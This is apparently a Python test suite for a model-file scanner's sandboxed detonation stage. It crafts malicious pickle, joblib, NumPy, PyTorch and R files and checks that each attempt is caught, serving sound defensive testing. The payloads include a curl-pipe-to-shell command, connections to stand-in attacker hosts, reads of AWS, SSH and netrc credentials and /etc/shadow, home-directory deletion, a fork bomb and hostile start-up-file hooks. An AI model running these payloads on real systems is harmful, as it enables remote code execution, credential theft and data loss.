#!/usr/bin/python3
"""Detonation: real models, real loaders, a real sandbox. What they attempt is seen, refused and judged; harmless models stay
CLEAN; what cannot be exercised is said. Usage: test_detonate.py PATH-OF-GATEHOUSE"""
import gzip
import importlib.util
import io
import json
import os
import pathlib
import pickle
import shutil
import signal
import subprocess
import sys
import tarfile
import tempfile
import time
import zipfile

import common
from common import check, ids, run

work = pathlib.Path(tempfile.mkdtemp(prefix='gatehouse-detonate-', dir='/var/tmp'))
skipped = 0
TORCH7 = pathlib.Path(__file__).resolve().parents[1] / 'fuzz' / 'seeds' / 'torch7' / 'clean_table.t7'


def skip(what, why):
    global skipped
    skipped += 1
    print(f'skipped {what}: {why}')


def have(*modules):
    """Whether the Python that detonations would find has these modules."""
    return all(importlib.util.find_spec(m) for m in modules)


def detonate(path, *options, seconds=20, **kw):
    options = options if any(o.startswith('--detonate') for o in options) else ('--detonate', *options)
    r = run('scan', '-f', 'json', *options, '--detonate-time', str(seconds), path, **kw)
    check(f'{path}: no signal', r.returncode in (0, 1, 2), f'{r.returncode} {r.stderr!r}')
    try:
        return r.returncode, json.loads(r.stdout)
    except ValueError:
        check(f'{path}: a report', False, r.stderr)
        return r.returncode, {'verdict': 'NONE', 'files': [{}], 'stages': {'detonation': {}}, 'detonation': {}}


def events(report):
    return report.get('detonation', {}).get('events', [])


class Call:
    """A pickle of it calls f(*a) when it is loaded."""

    def __init__(self, f, *a):
        self.f, self.a = f, a

    def __reduce__(self):
        return self.f, self.a


def evil(name, f, *a):
    path = work / (name + '.pkl')
    path.write_bytes(pickle.dumps(Call(f, *a)))
    return path


def code(name, text):
    return evil(name, exec, text)


def expect(what, path, kind, rule, *says, status=1, **kw):
    """An event of that kind, with these words in its text, is a finding of that rule, and the file is UNSAFE."""
    rc, report = detonate(path, **kw)
    texts = [e['text'] for e in events(report) if e['kind'] == kind]
    check(f'{what}: UNSAFE, status {status}', report['verdict'] == 'UNSAFE' and rc == status, report['verdict'])
    check(f'{what}: {rule}', rule in ids(report['files'][0]), report.get('detonation'))
    for word in says:
        check(f'{what}: says {word!r}', any(word in t for t in texts), events(report))
    return report


def harmless(what, path, *exercised, options=(), name=None):
    rc, report = detonate(path, *options)
    f = report['files'][0]
    det = [i for i in ids(f) if i.startswith('GH-DET')]
    check(f'{what}: no event', events(report) == [] and det == [], report.get('detonation'))
    check(f'{what}: the stage ran', report['stages']['detonation'].get('state') == 'run', report['stages']['detonation'])
    for word in exercised:
        check(f'{what}: exercised {word!r}', any(word in x for x in report['detonation']['exercised']), report['detonation'])
    return report


def pickles():
    marker = work / 'marker'
    expect('os.system', evil('system', os.system, f'touch {marker}; curl http://192.0.2.1/x | sh'), 'exec', 'GH-DET-0001',
           '/bin/sh -c', 'curl http://192.0.2.1/x | sh')
    expect('subprocess', evil('popen', subprocess.Popen, ['/bin/sh', '-c', f'touch {marker}']), 'exec', 'GH-DET-0001',
           f'/bin/sh -c \'touch {marker}\'')
    check('nothing was run outside', not marker.exists())
    import socket
    expect('socket', evil('connect', socket.create_connection, ('192.0.2.7', 4444)), 'network', 'GH-DET-0002',
           'would have connected to 192.0.2.7:4444')
    import urllib.request
    expect('urllib', evil('urllib', urllib.request.urlopen, 'http://evil.example.com/x'), 'network', 'GH-DET-0002',
           'asked for the address of evil.example.com')
    expect('writing', evil('write', open, str(marker), 'w'), 'write', 'GH-DET-0004', f'would have written to {marker}')
    expect('writing a start-up file', evil('bashrc', open, '/home/user/.bashrc', 'a'), 'write', 'GH-DET-0004', '.bashrc')
    check('nothing was written outside', not marker.exists())
    expect('fork', evil('fork', os.fork), 'process', 'GH-DET-0005', 'another process')
    expect('rmtree', evil('rmtree', shutil.rmtree, '/home/user'), 'write', 'GH-DET-0004', 'would have deleted /home/user/')
    expect('eval', evil('eval', eval, "getattr(__import__('o'+'s'), 'po'+'pen')('whoami').read()"), 'exec', 'GH-DET-0001',
           'whoami')
    expect('ctypes', code('ctypes', "import ctypes; ctypes.CDLL(None).system(b'id')"), 'exec', 'GH-DET-0001', "/bin/sh -c id")
    expect('exec in place', evil('execv', os.execv, '/bin/sh', ['sh', '-c', 'id']), 'exec', 'GH-DET-0001', '/bin/sh -c id')
    expect('a decoy', code('aws', "import os; open(os.path.expanduser('~/.aws/credentials')).read()"), 'credentials',
           'GH-DET-0003', '/home/user/.aws/credentials')
    expect('a decoy through a link', code('link', "import os; os.symlink('/home/user/.netrc', '/tmp/a'); open('/tmp/a').read()"),
           'credentials', 'GH-DET-0003', '/home/user/.netrc')
    expect('shadow', code('shadow', "import os\ntry: open('/etc/shadow')\nexcept OSError: pass"), 'credentials', 'GH-DET-0003',
           '/etc/shadow')
    expect('kill', code('kill', "import os\ntry: os.kill(1, 9)\nexcept OSError: pass"), 'other-processes', 'GH-DET-0006',
           'SIGKILL to process 1')
    expect('ptrace', code('ptrace', "import ctypes; ctypes.CDLL(None).ptrace(16, 1, 0, 0)"), 'other-processes', 'GH-DET-0006',
           'ptrace')
    expect('unshare', code('unshare', "import ctypes; ctypes.CDLL(None).unshare(0x10000000)"), 'kernel', 'GH-DET-0007',
           'unshare')
    expect('a library of its own', code('native', '''import ctypes, shutil, glob
shutil.copy(sorted(glob.glob('/usr/lib/*/libz.so.1') + glob.glob('/lib/*/libz.so.1'))[0], '/tmp/own.so')
try: ctypes.CDLL('/tmp/own.so')
except OSError: pass'''), 'machine-code', 'GH-DET-0008', '/tmp/own.so')
    report = expect('several things', code('many', '''import os, socket
os.system('first')
try: socket.create_connection(('203.0.113.9', 80))
except OSError: pass
os.system('last')'''), 'exec', 'GH-DET-0001', 'first', 'last')
    check('several things: the network too', any('203.0.113.9:80' in e['text'] for e in events(report)), events(report))
    check('several things: loaded to the end', report['stages']['detonation']['state'] == 'run', report['stages'])


def forged():
    """What a model says about itself on the loader's descriptor is no message of the loader."""
    good = '\\n'.join(('V python3 9, torch 99', 'L', 'X pickle.load', 'X one prediction', 'D', ''))
    for name, words in (('forge', good), ('forge_r', 'R\\nD\\n')):
        rc, report = detonate(code(name, f'''import os
for fd in range(3, 1024):
    try: os.write(fd, b"{words}")
    except OSError: pass
os._exit(0)'''))
        stage = report['stages']['detonation']
        check(f'{name}: an early end is incomplete', stage['state'] == 'incomplete' and 'ended early' in stage['reason'], stage)
        check(f'{name}: nothing was exercised', report['detonation']['exercised'] == [], report['detonation'])
        check(f'{name}: the version is the host\'s', 'torch 99' not in (stage['with'] or ''), stage)
        check(f'{name}: told', any('messages of its own' in e['text'] for e in events(report)), events(report))


def drowned():
    """Very many harmless events hide none of the others."""
    rc, report = detonate(code('drown', '''import os, socket
for i in range(1500):
    try: open(f'/nonexistent{i}')
    except OSError: pass
try: socket.create_connection(('192.0.2.7', 4444))
except OSError: pass
try: open(os.path.expanduser('~/.ssh/id_rsa')).read()
except OSError: pass
os.system('id')'''))
    kinds = {e['kind'] for e in events(report)}
    check('drowned: all kinds are told', {'unusual', 'network', 'credentials', 'exec'} <= kinds, kinds)
    found = ids(report['files'][0])
    check('drowned: each has its finding', {'GH-DET-0001', 'GH-DET-0002', 'GH-DET-0003', 'GH-DET-0009', 'GH-DET-0011'} <=
          set(found), found)
    check('drowned: incomplete', report['stages']['detonation']['state'] == 'incomplete', report['stages']['detonation'])


def machine_code():
    write = "import mmap; m = mmap.mmap(-1, 4096, prot=7); m.write(bytes([0xc3]))"
    expect('memory to be run', code('wx', write), 'machine-code', 'GH-DET-0008', 'written into memory')
    expect('memory to be run later', code('later', '''import ctypes
c = ctypes.CDLL(None)
c.mmap.restype = ctypes.c_void_p
c.mprotect(ctypes.c_void_p(c.mmap(None, 4096, 3, 0x22, -1, 0)), 4096, 5)'''), 'machine-code', 'GH-DET-0008', 'libffi')
    rc, report = detonate(code('callback', '''import ctypes
f = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p)(lambda a, b: 0)
ctypes.CDLL(None).qsort((ctypes.c_int * 4)(3, 1, 2, 0), 4, 4, f)'''))
    check('a callback: not more than unusual', {e['kind'] for e in events(report)} <= {'unusual'} and
          report['stages']['detonation']['state'] == 'run', report['detonation'])
    if os.uname().machine == 'x86_64':
        expect('another architecture', code('foreign', 'import ctypes; ctypes.CDLL(None).syscall(0x40000027)'), 'kernel',
               'GH-DET-0007', 'another architecture')


def beside():
    """A module of the model's directory takes no loader's place; one that its model is made of is found."""
    folder = work / 'beside'
    folder.mkdir()
    if not have('keras'):
        (folder / 'keras.py').write_text('__version__ = "3.4.1"\nclass models:\n    @staticmethod\n'
                                         '    def load_model(path, compile=False): return 1\n')
        (folder / 'a.pkl').write_bytes(b'ckeras\nmodels\n.')
        rc, report = detonate(folder)
        stage = report['stages']['detonation']
        check('keras.py beside the model: not the loader', stage['state'] == 'incomplete' and "'keras'" in stage['reason'] and
              '3.4.1' not in (stage['with'] or ''), stage)
        (folder / 'keras.py').unlink()
    (folder / 'pickle.py').write_text('raise SystemExit(0)\n')
    (folder / 'joblib.py').write_text('raise SystemExit(0)\n')
    (folder / 'usercustomize.py').write_text('import os; os.system("id")\n')
    (folder / 'sitecustomize.py').write_text('import os; os.system("id")\n')
    (folder / 'thing_of_this_model.py').write_text('class Thing: pass\n')
    (folder / 'a.pkl').write_bytes(b'cthing_of_this_model\nThing\n.')
    rc, report = detonate(folder)
    check('modules beside the model: only its own', events(report) == [] and report['detonation']['exercised'] ==
          ['pickle.load', 'touched everything inside'], report['detonation'])
    rc, report = detonate(folder / 'a.pkl', '--detonate-with', '/usr/bin/python3 -c "import pickle, sys; print(sys.argv)" {path}')
    check('an own command: no modules from the model\'s directory', events(report) == [] and
          report['stages']['detonation']['state'] == 'run', report['detonation'])


def left_behind():
    """Groups whose process is gone: others may be at work at the same time."""
    return [p.name for p in pathlib.Path('/sys/fs/cgroup').rglob('gatehouse-jail-*')
            if not os.path.exists(f'/proc/{p.name.rsplit("-", 1)[1]}')]


def wait_for_process(word, seconds=15):
    """Until a process runs that has the word in its command line."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for p in pathlib.Path('/proc').glob('[0-9]*/cmdline'):
            try:
                if word in p.read_bytes():
                    return True
            except OSError:
                pass
        time.sleep(.1)
    return False


def default_signals():
    """Whoever runs the tests may ignore some of them (a background job, nohup)."""
    for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
        signal.signal(sig, signal.SIG_DFL)


def interrupted():
    path = code('long', 'import time; time.sleep(60)')
    before, output = set(left_behind()), work / 'report.json'
    for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGKILL):
        p = subprocess.Popen([common.GATEHOUSE, 'scan', '--detonate', '-f', 'json', '-o', output, path], env=common.ENV,
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, preexec_fn=default_signals)
        check(f'{sig.name}: it is being loaded', wait_for_process(b'/model/long.pkl'))
        time.sleep(.3)
        p.send_signal(sig)
        out, err = p.communicate(timeout=15)
        check(f'{sig.name}: ended by it', p.returncode == -sig, p.returncode)
        check(f'{sig.name}: nothing half-written', out == b'' and not output.exists(), out)
        if sig != signal.SIGKILL:
            check(f'{sig.name}: says so in one line', b'interrupted' in err and err.count(b'\n') == 1, err)
            check(f'{sig.name}: leaves no cgroup', set(left_behind()) <= before, left_behind())
    time.sleep(.5)
    detonate(work / 'probe.pkl')
    check('SIGKILL: the next run cleans up', set(left_behind()) <= before, left_behind())


def limits():
    def incomplete(what, path, *says, **kw):
        rc, report = detonate(path, **kw)
        stage = report['stages']['detonation']
        check(f'{what}: the stage is incomplete', stage['state'] == 'incomplete', stage)
        check(f'{what}: GH-DET-0010 or 0011', {'GH-DET-0010', 'GH-DET-0011'} & set(ids(report['files'][0])), report['files'])
        for word in says:
            check(f'{what}: says {word!r}', word in (stage['reason'] or ''), stage)
        return report
    start = time.monotonic()
    incomplete('it sleeps', code('sleep', 'import time; time.sleep(1000)'), 'longer than 2 seconds', seconds=2)
    check('it sleeps: ended in time', time.monotonic() - start < 15, time.monotonic() - start)
    incomplete('it spins', code('spin', 'while True: pass'), 'longer than 2 seconds', seconds=2)
    rc, report = detonate(code('memory', 'x = [bytearray(1 << 26) for _ in range(1000)]'), '--detonate', '--detonate-memory',
                          '512M')
    check('memory: incomplete', report['stages']['detonation']['state'] == 'incomplete', report['stages'])
    check('memory: says so', 'memory' in report['stages']['detonation']['reason'], report['stages'])
    incomplete('it fills the disk', code('disk', '''n = 0
while True:
    with open(f'/tmp/{n}', 'wb') as f: f.write(bytes(1 << 24))
    n += 1'''), 'OSError')
    incomplete('it ends early', evil('exit', os._exit, 0), 'status 0')
    incomplete('it floods', code('flood', '''import os
while True:
    try: os.kill(1, 9)
    except OSError: pass'''), 'calls')
    report = expect('it forks without end', code('bomb', '''import os
while True:
    try: os.fork()
    except OSError: break'''), 'process', 'GH-DET-0005')
    left = subprocess.run(['ps', '-eo', 'args'], capture_output=True, text=True).stdout if shutil.which('ps') else ''
    check('nothing is left running', '/model/bomb.pkl' not in left, left)


def models():
    if not have('torch'):
        skip('PyTorch', 'no torch here')
    else:
        import torch
        torch.save({'w': torch.zeros(3), 'l': torch.nn.Linear(2, 2).state_dict()}, work / 'good.pt')
        r = harmless('a checkpoint', work / 'good.pt', 'torch.load', 'touched everything')
        check('a checkpoint: CLEAN', r['verdict'] == 'CLEAN', r['files'])
        check('a checkpoint: the loader has a name and a version', 'torch ' in (r['detonation']['loader'] or ''), r['detonation'])
        check('a checkpoint: the stage says with what', 'torch' in (r['stages']['detonation']['with'] or ''), r['stages'])
        torch.save(torch.nn.Sequential(torch.nn.Linear(4, 2)), work / 'module.pt')
        harmless('a module', work / 'module.pt', 'one forward pass')
        torch.jit.save(torch.jit.script(torch.nn.Linear(4, 2)), str(work / 'script.pt'))
        harmless('TorchScript', work / 'script.pt', 'torch.jit.load', 'one forward pass')
        torch.save({'a': Call(os.system, 'id')}, work / 'bad.pt')
        expect('a hostile checkpoint', work / 'bad.pt', 'exec', 'GH-DET-0001', '/bin/sh -c id')
    if not have('sklearn', 'joblib', 'numpy'):
        skip('scikit-learn', 'no sklearn or joblib here')
    else:
        import joblib
        import numpy
        from sklearn.ensemble import RandomForestClassifier
        from sklearn.linear_model import LogisticRegression
        x = numpy.random.default_rng(1).random((30, 4))
        y = (x[:, 0] > .5).astype(int)
        joblib.dump(LogisticRegression().fit(x, y), work / 'lr.joblib')
        harmless('logistic regression', work / 'lr.joblib', 'joblib.load', 'one prediction')
        joblib.dump(RandomForestClassifier(5).fit(x, y), work / 'rf.joblib', compress=3)
        harmless('a compressed forest', work / 'rf.joblib', 'joblib.load', 'one prediction')
        joblib.dump([Call(os.system, 'id'), x], work / 'bad.joblib')
        expect('a hostile joblib file', work / 'bad.joblib', 'exec', 'GH-DET-0001', '/bin/sh -c id')
    if not have('numpy'):
        skip('NumPy', 'no numpy here')
    else:
        import numpy
        numpy.savez(work / 'a.npz', a=numpy.zeros(3))
        harmless('npz', work / 'a.npz', 'numpy.load', 'all 1 arrays')
        numpy.save(work / 'bad.npy', numpy.array([Call(os.system, 'id')], dtype=object))
        expect('a hostile npy', work / 'bad.npy', 'exec', 'GH-DET-0001', '/bin/sh -c id')
    if not have('h5py'):
        skip('HDF5', 'no h5py here')
    else:
        import h5py
        with h5py.File(work / 'a.h5', 'w') as f:
            f['w'] = [1.0, 2.0]
            f.attrs['n'] = 3
        harmless('HDF5', work / 'a.h5', 'h5py')


def r_objects():
    if not shutil.which('Rscript', path='/usr/bin:/bin'):
        skip('R', 'no R here')
        return
    subprocess.run(['Rscript', '-e', '''saveRDS(list(a = 1, b = "x"), "good.rds"); e <- new.env()
delayedAssign("p", system("id"), assign.env = e); saveRDS(e, "lazy.rds", compress = FALSE)
.First <- function() system("whoami"); save(.First, file = "first.rda")'''], cwd=work, check=True, capture_output=True)
    harmless('an R object', work / 'good.rds', 'readRDS')
    folder = work / 'r-beside'
    (folder / 'utils' / 'R').mkdir(parents=True)
    shutil.copy(work / 'good.rds', folder)
    (folder / '.Rprofile').write_text('system("id")\n')
    (folder / '.Renviron').write_text('R_LIBS=/model\nR_DEFAULT_PACKAGES=evil\n')
    (folder / 'utils' / 'DESCRIPTION').write_text('Package: utils\nVersion: 9\n')
    rc, report = detonate(folder)
    check('start-up files beside an R object: not read', events(report) == [] and
          report['stages']['detonation']['state'] == 'run', report['detonation'])
    expect('a lazy R object', work / 'lazy.rds', 'exec', 'GH-DET-0001', 'id')
    expect('.First of a workspace', work / 'first.rda', 'exec', 'GH-DET-0001', 'whoami')


def not_exercised():
    gguf = work / 'hostile.gguf'
    gguf.write_bytes(b'GGUF\3\0\0\0' + b'\xff' * 16 + b'\0' * 64)
    rc, report = detonate(gguf)
    stage = report['stages']['detonation']
    if stage['state'] == 'not_run':
        check('GGUF without engine: says so', 'not exercised: no engine' in stage['reason'], stage)
        check('GGUF without engine: never CLEAN', report['verdict'] != 'CLEAN' and rc != 0, report['verdict'])
    else:
        check('a hostile GGUF: does not load', stage['state'] == 'incomplete', stage)
    text = work / 'notes.txt'
    text.write_text('nothing to load\n')
    rc, report = detonate(text)
    check('no model: not run, CLEAN', report['verdict'] == 'CLEAN' and report['stages']['detonation']['state'] == 'not_run',
          report['stages'])
    (work / 'good.pkl').write_bytes(pickle.dumps({'a': [1, 2]}))
    r = run('scan', '-f', 'json', work / 'good.pkl')
    report = json.loads(r.stdout)
    check('not by default', report['stages']['detonation']['state'] == 'not_run' and 'detonation' not in report, report)
    (work / 'missing.pkl').write_bytes(b'cno_such_module_here\nThing\n.')
    rc, report = detonate(work / 'missing.pkl')
    check('a missing module: incomplete, with the reason',
          'no_such_module_here' in (report['stages']['detonation']['reason'] or ''), report['stages'])
    folder = work / 'folder'
    folder.mkdir()
    (folder / 'a.pkl').write_bytes(pickle.dumps([1]))
    (folder / 'b.pkl').write_bytes(pickle.dumps(Call(os.system, 'id')))
    rc, report = detonate(folder)
    check('a folder: each file by itself', [f['verdict'] for f in report['files']] == ['CLEAN', 'UNSAFE'], report['files'])
    check('a folder: events name the file', all(e['file'].endswith('b.pkl') for e in events(report)), events(report))


def safetensors(path):
    header = json.dumps({'w': {'dtype': 'F32', 'shape': [2], 'data_offsets': [0, 8]}}).encode()
    header += b' ' * (-len(header) % 8)
    path.write_bytes(len(header).to_bytes(8, 'little') + header + bytes(8))


def not_missed():
    """What runs nothing needs no loader; standard input is not loaded, and that is said."""
    folder = work / 'inert'
    folder.mkdir()
    safetensors(folder / 'w.safetensors')
    (folder / 'config.json').write_text('{"hidden_size": 2}\n')
    rc, report = detonate(folder)
    stage = report['stages']['detonation']
    check('safetensors: never INCOMPLETE for want of a loader', report['verdict'] == 'CLEAN' and rc == 0, report['files'])
    if not have('safetensors'):
        check('safetensors without its package: said', stage['state'] == 'not_run' and 'nothing in it runs' in stage['reason'],
              stage)
        (folder / 'ok.pkl').write_bytes(pickle.dumps([1]))
        rc, report = detonate(folder)
        check('… and a pickle beside it: the stage ran', report['stages']['detonation']['state'] == 'run' and
              report['verdict'] == 'CLEAN', report['stages']['detonation'])
    (work / 'early.pkl.gz').write_bytes(gzip.compress(pickle.dumps(Call(os._exit, 0)), mtime=0))
    rc, report = detonate(work / 'early.pkl.gz')
    check('a packed pickle that ends the loader: incomplete', report['stages']['detonation']['state'] == 'incomplete',
          report['stages']['detonation'])
    with zipfile.ZipFile(work / 'texts.zip', 'w') as z:
        z.writestr('readme.txt', 'nothing to load\n')
    (work / 'words.txt.gz').write_bytes(gzip.compress(b'nothing to load\n', mtime=0))
    packed = gzip.compress((folder / 'w.safetensors').read_bytes(), mtime=0)
    (work / 'w.safetensors.gz').write_bytes(packed)
    rc, report = detonate(work / 'w.safetensors.gz')
    check('a packed model in which nothing runs: nothing is missed', report['verdict'] == 'CLEAN' and rc == 0,
          (report['verdict'], report['stages']['detonation']))
    for name in ('texts.zip', 'words.txt.gz'):
        rc, report = detonate(work / name)
        check(f'{name}: nothing to load, CLEAN', report['verdict'] == 'CLEAN' and rc == 0, report['files'])
    with open(work / 'good.pkl', 'rb') as f:
        r = run('scan', '--detonate', '-', stdin=f)
    check('standard input: a usage error that says what to do', r.returncode == 64 and not r.stdout and
          b'save standard input to a file' in r.stderr, r)


def packed_tar(path, mode, files):
    with tarfile.open(path, mode) as t:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))


def members():
    """What an archive holds is loaded member by member, each in a sandbox of its own; what was left out is said."""
    evil_bytes = (work / 'system.pkl').read_bytes()
    good = pickle.dumps({'a': [1, 2]})
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, 'w') as z:
        z.writestr('in/x.pkl.gz', gzip.compress(evil_bytes, mtime=0))
    with zipfile.ZipFile(work / 'members.zip', 'w', zipfile.ZIP_DEFLATED) as z:
        z.writestr('README.md', '# models\n')
        z.writestr('notes/a.txt', evil_bytes)
        z.writestr('ok.pkl', good)
    packed_tar(work / 'members.tar.gz', 'w:gz', {'g.pkl': good, 'in.zip': inner.getvalue()})
    packed_tar(work / 'clean.tar', 'w', {'g.pkl': good, 'sub/h.pkl': good, 'readme.txt': b'two pickles\n'})
    for name, member, runs in (('members.zip', 'notes/a.txt', 2), ('members.tar.gz', 'in.zip > in/x.pkl.gz', 2)):
        rc, report = detonate(work / name)
        f, det = report['files'][0], report['detonation']
        check(f'{name}: UNSAFE by what the member attempted', rc == 1 and any(
            x['id'] == 'GH-DET-0001' and x['location']['member'] == member for x in f['findings']), f['findings'])
        check(f'{name}: the event names it', any(e.get('member') == member and 'curl' in e['text'] for e in det['events']), det['events'])
        loaded = {x.get('member') for x in det['files'] if x['loaded'] and x.get('member')}
        check(f'{name}: every model was loaded', len(loaded) == runs and member in loaded, det['files'])
        check(f'{name}: the stage ran', report['stages']['detonation']['state'] == 'run', report['stages']['detonation'])
    check('members: nothing was run outside', not (work / 'marker').exists())
    rc, report = detonate(work / 'clean.tar')
    check('an archive of harmless pickles is CLEAN, and both were loaded', rc == 0 and report['verdict'] == 'CLEAN' and
          [x.get('member') for x in report['detonation']['files'] if x['loaded']] == ['g.pkl', 'sub/h.pkl'], report['detonation'])
    packed_tar(work / 'late.tar', 'w', {'quit.pkl': pickle.dumps(Call(os._exit, 0)), 'g.pkl': good})
    rc, report = detonate(work / 'late.tar')
    check('a member that ends its loader: incomplete, the others were loaded', report['stages']['detonation']['state'] == 'incomplete' and
          any(x['id'] == 'GH-DET-0010' and x['location']['member'] == 'quit.pkl' for x in report['files'][0]['findings']) and
          any(x.get('member') == 'g.pkl' and x['loaded'] for x in report['detonation']['files']), report['detonation'])
    packed_tar(work / 'other.tar', 'w', {'saved.t7': TORCH7.read_bytes(), 'g.pkl': good})
    rc, report = detonate(work / 'other.tar')
    reasons = ' '.join(x['reason'] or '' for x in report['detonation']['files'])
    check('a member without a loader here: named, never CLEAN', report['verdict'] != 'CLEAN' and
          'saved.t7 (no loader here for torch7, which needs Torch)' in reasons, reasons)
    if not have('torch'):
        return skip('NeMo and MAR members', 'torch is not installed')
    import torch
    weights = io.BytesIO()
    torch.save({'w': torch.zeros(3)}, weights)
    packed_tar(work / 'm.nemo', 'w', {'./model_config.yaml': b'target: x\n', './model_weights.ckpt': weights.getvalue()})
    rc, report = detonate(work / 'm.nemo')
    check('NeMo: its weights were loaded', rc == 0 and any('torch.load' in x for x in report['detonation']['exercised']), report['detonation'])
    handler = 'import torch\n\n\nclass H:\n    def handle(self, data, context):\n        return [torch.tensor([1.0]).tolist() for _ in data]\n'
    with zipfile.ZipFile(work / 'm.mar', 'w', zipfile.ZIP_DEFLATED) as z:
        z.writestr('h.py', handler)
        z.writestr('MAR-INF/MANIFEST.json', json.dumps({'createdOn': '1', 'runtime': 'python', 'archiverVersion': '0.8', 'model': {
            'modelName': 'm', 'serializedFile': 'm.pt', 'handler': 'h.py', 'modelVersion': '1.0'}}))
        z.writestr('m.pt', weights.getvalue())
    rc, report = common.scan(work / 'm.mar')
    check('an ordinary MAR with a handler of its own is CLEAN', rc == 0 and report['verdict'] == 'CLEAN' and
          'GH-MAR-0004' in ids(report['files'][0]), report['files'])
    rc, report = detonate(work / 'm.mar')
    check('MAR: its weights were loaded, its handler was not, and that is said', report['verdict'] != 'CLEAN' and
          any('torch.load' in x for x in report['detonation']['exercised']) and
          'torchserve' in (report['stages']['detonation']['reason'] or ''), report['detonation'])


def own_command():
    script = work / 'own.py'
    script.write_text('import pickle, sys\nprint(pickle.load(open(sys.argv[1], "rb")))\n')
    command = f'/usr/bin/python3 {script} {{path}}'
    rc, report = detonate(work / 'system.pkl', '--detonate-with', command)
    check('an own command: seen', any(e['kind'] == 'exec' for e in events(report)), report.get('detonation'))
    harmless('an own command, harmless', work / 'good.pkl', options=('--detonate-with', command))
    for options, says in ((('--detonate-with', 'nosuchprogram {path}'), 'no such program'),
                          (('--detonate-with', 'cat'), '{path}'), (('--detonate-with', "cat '{path}"), 'quote'),
                          (('--detonate', '--detonate-python', '/etc/hostname'), 'no Python'),
                          (('--detonate', '--detonate-engine', '/nonexistent'), 'llama.cpp'),
                          (('--detonate-python', '/usr/bin/python3'), '--detonate'),
                          (('--detonate-time', '1'), 'need --detonate'), (('--detonate-memory', '512M'), 'need --detonate')):
        r = run('scan', *options, work / 'good.pkl')
        check(f'{options}: usage', r.returncode == 64 and says in r.stderr.decode() and not r.stdout, r)


def rootless():
    """The same sandbox for a user without rights, where the kernel lets users make name spaces."""
    if os.geteuid() != 0:
        skip('as another user', 'these tests do not run as root: all of them are that test')
        return
    folder = pathlib.Path(tempfile.mkdtemp(prefix='gatehouse-user-', dir='/var/tmp'))
    try:
        folder.chmod(0o755)
        for name in ('gatehouse', 'gatehouse-worker'):
            shutil.copy(os.path.join(os.path.dirname(common.GATEHOUSE), name), folder)
        for data in pathlib.Path(common.GATEHOUSE).parent.glob('*.ghd'):
            shutil.copy(data, folder)
        shutil.copy(work / 'system.pkl', folder / 'system.pkl')
        (folder / 'system.pkl').chmod(0o644)
        r = subprocess.run([folder / 'gatehouse', 'scan', '--detonate', '-f', 'json', folder / 'system.pkl'],
                           capture_output=True, user=65534, group=65534, extra_groups=[], env=common.ENV, cwd='/')
        report = json.loads(r.stdout)
        stage = report['stages']['detonation']
        if stage['state'] == 'not_run':
            check('a user without name spaces: the reason', 'sandbox' in stage['reason'] and report['verdict'] != 'CLEAN', stage)
            skip('as another user', stage['reason'])
        else:
            check('as another user: seen', any(e['kind'] == 'exec' for e in events(report)), report['detonation'])
    finally:
        shutil.rmtree(folder)


def schema(root):
    if not have('jsonschema'):
        skip('the schema', 'no jsonschema here')
        return
    import jsonschema
    with open(root / 'docs/schema/scan-report.schema.json') as f:
        validator = jsonschema.Draft202012Validator(json.load(f))
    for path in (work / 'system.pkl', work / 'hostile.gguf', work / 'notes.txt'):
        report = json.loads(run('scan', '--detonate', '-f', 'json', path).stdout)
        errors = [e.message for e in validator.iter_errors(report)]
        check(f'{path.name}: as the schema says', errors == [], errors[:3])


def main():
    try:
        (work / 'probe.pkl').write_bytes(pickle.dumps(1))
        rc, report = detonate(work / 'probe.pkl')
        reason = report['stages']['detonation'].get('reason') or ''
        if 'sandbox could not' in reason:
            check('no sandbox: not run, never CLEAN', report['stages']['detonation']['state'] == 'not_run' and
                  report['verdict'] == 'INCOMPLETE', report['stages'])
            skip('detonation', reason)
        else:
            for part in (pickles, forged, drowned, machine_code, beside, interrupted, limits, models, r_objects, not_exercised, not_missed, members, own_command, rootless):
                part()
            schema(pathlib.Path(__file__).resolve().parents[2])
    finally:
        shutil.rmtree(work)
    return common.end('test_detonate')


sys.exit(main())
